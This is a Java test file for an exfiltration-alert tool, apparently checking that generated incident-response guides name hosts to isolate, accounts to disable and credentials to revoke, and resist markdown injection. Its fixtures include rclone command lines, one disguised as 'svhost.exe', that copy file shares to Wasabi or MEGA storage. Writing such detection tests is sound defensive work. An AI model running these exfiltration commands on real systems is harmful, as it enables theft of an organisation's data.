package exfilwatch.alert;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import exfilwatch.alert.query.Hostile;
import java.util.List;
import java.util.stream.StreamSupport;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

class GuideTest {

  private static final ObjectMapper JSON = new ObjectMapper();

  private static final String TO_WASABI =
      "svhost.exe move D:\\Shares :s3,provider=Wasabi,access_key_id=AKIAEXAMPLE,"
          + "secret_access_key=hush,endpoint=s3.wasabisys.com:drop/x --include *.dwg --filter-from"
          + " C:\\f.txt --log-file C:\\t.log";

  @Test
  void namesWhatToRevokeBlockAndIsolate() throws Exception {
    JsonNode guide =
        guide(AlertCases.closed().commandLine(TO_WASABI).to("drop.s3.wasabisys.com", "192.0.2.7"));
    assertThat(texts(guide.get("response")))
        .anyMatch(step -> step.contains("isolate `ws-7.corp.example.com`"))
        .anyMatch(step -> step.contains("disable `CORP\\eve`"))
        .anyMatch(step -> step.startsWith("Block `drop.s3.wasabisys.com`"))
        .anyMatch(
            step ->
                step.startsWith("Report bucket `drop`, access_key_id `AKIAEXAMPLE` to `Wasabi`"))
        .anyMatch(step -> step.contains("`secret_access_key`"))
        .anyMatch(step -> step.contains("deletes what it has sent"));
    assertThat(texts(guide.get("collect")))
        .containsExactly("C:\\PerfLogs\\svhost.exe", "C:\\t.log", "C:\\f.txt");
    assertThat(guide.toString()).doesNotContain("hush");
  }

  @Test
  void answersFromTheEvidenceAndLeavesTheRestOpenWithAQuery() throws Exception {
    JsonNode guide = guide(AlertCases.started().commandLine("rclone.exe copy C:\\data mega:loot"));
    for (JsonNode question : guide.get("questions")) {
      if (question.path("open").asBoolean()) {
        assertThat(question.has("answer")).isFalse();
        assertThat(question.get("query").size()).isEqualTo(4);
      } else {
        assertThat(question.get("answer").asText()).isNotEmpty();
      }
    }
    assertThat(answer(guide, "Where from"))
        .startsWith("From `C:\\data` to the remote `mega:`, path `loot`.");
    assertThat(answer(guide, "Which data")).isEqualTo("Everything in the source.");
    JsonNode connected = question(guide, "Did it connect");
    assertThat(connected.get("open").asBoolean()).isTrue();
    assertThat(connected.at("/query/kql").asText())
        .contains("DeviceNetworkEvents", "\"ws-7\"", "InitiatingProcessId == 4711");
    assertThat(texts(guide.get("response"))).anyMatch(s -> s.contains("rclone config show mega"));
  }

  @Test
  void aRunThatTransfersNothingSaysSoFirst() throws Exception {
    JsonNode guide = guide(AlertCases.started().commandLine("rclone.exe copy -n C:\\d mega:x"));
    assertThat(guide.at("/response/0").asText()).contains("transferred nothing");
  }

  @Test
  void aSourceThatTellsNearlyNothingStillGetsAGuide() throws Exception {
    JsonNode guide = guide(AlertCases.bare());
    assertThat(texts(guide.get("seen")))
        .hasSize(2)
        .last()
        .asString()
        .startsWith("Risk 73 of 100, high: rule +73");
    assertThat(guide.get("response").size()).isPositive();
  }

  /** Line for line as with a harmless name: it begins no heading, list, code block or link. */
  @Property(tries = 200)
  void noNameChangesTheMarkdown(@ForAll("names") String name) throws Exception {
    String harmless = guide(named("a")).get("markdown").asText();
    String attacked = guide(named(name)).get("markdown").asText();
    assertThat(shape(attacked)).isEqualTo(shape(harmless));
    String oneLine = attacked.replace("\n", "");
    assertThat(Hostile.visible(oneLine)).isEqualTo(oneLine);
  }

  @Provide
  static Arbitrary<String> names() {
    return Arbitraries.of(
            "`",
            "``",
            "```",
            "\n",
            "# x",
            "- ",
            "[a](http://b)",
            "<script>",
            "|",
            "\\",
            "\"",
            "a",
            "\u202e",
            " ",
            "*",
            "\n\n## Response\n",
            "~~~",
            "$t$",
            "%",
            "é")
        .list()
        .ofMinSize(1)
        .ofMaxSize(6)
        .map(parts -> "a" + String.join("", parts));
  }

  private static AlertCases named(String name) {
    return AlertCases.closed()
        .host(name)
        .user(name)
        .program("C:\\" + name)
        .commandLine("rclone.exe copy C:\\d mega:x")
        .to(name, "192.0.2.7");
  }

  /** Each line without its code spans: a span ends at the next run of as many backticks. */
  private static List<String> shape(String markdown) {
    return markdown
        .lines()
        .filter(line -> !line.contains("TO_LOWER"))
        .map(line -> line.strip().matches("`{3,}(esql)?") ? "fence" : withoutSpans(line))
        .toList();
  }

  private static String withoutSpans(String line) {
    StringBuilder text = new StringBuilder();
    int at = 0;
    while (at < line.length()) {
      if (line.charAt(at) != '`') {
        text.append(line.charAt(at++));
        continue;
      }
      int open = at;
      while (at < line.length() && line.charAt(at) == '`') {
        at++;
      }
      int length = at - open;
      int run = 0;
      do {
        run = at < line.length() && line.charAt(at) == '`' ? run + 1 : 0;
        at++;
      } while (at <= line.length()
          && !(run == length && (at == line.length() || line.charAt(at) != '`')));
      text.append(at > line.length() ? "UNCLOSED" : "S");
    }
    return text.toString();
  }

  @ParameterizedTest
  @EnumSource(AlertFormat.class)
  void everyFormatHasTheGuideAndIsValidWhateverTheNames(AlertFormat format) throws Exception {
    for (String name :
        List.of("a", "<script>", "\u0000\n`|$x$\"'\\", "é\u202e", "x".repeat(5000))) {
      for (AlertCases each : List.of(named(name), AlertCases.bare(), AlertCases.started())) {
        JsonNode alert = AlertSchemas.requireValid(each.render(format));
        assertThat(alert.findPath("guide").get("markdown").asText()).startsWith("## What was seen");
      }
    }
  }

  private static JsonNode guide(AlertCases alert) throws Exception {
    return JSON.readTree(alert.render(AlertFormat.ECS)).at("/exfil/guide");
  }

  private static JsonNode question(JsonNode guide, String start) {
    return StreamSupport.stream(guide.get("questions").spliterator(), false)
        .filter(question -> question.get("question").asText().startsWith(start))
        .findFirst()
        .orElseThrow();
  }

  private static String answer(JsonNode guide, String start) {
    return question(guide, start).get("answer").asText();
  }

  private static List<String> texts(JsonNode array) {
    return StreamSupport.stream(array.spliterator(), false).map(JsonNode::asText).toList();
  }
}
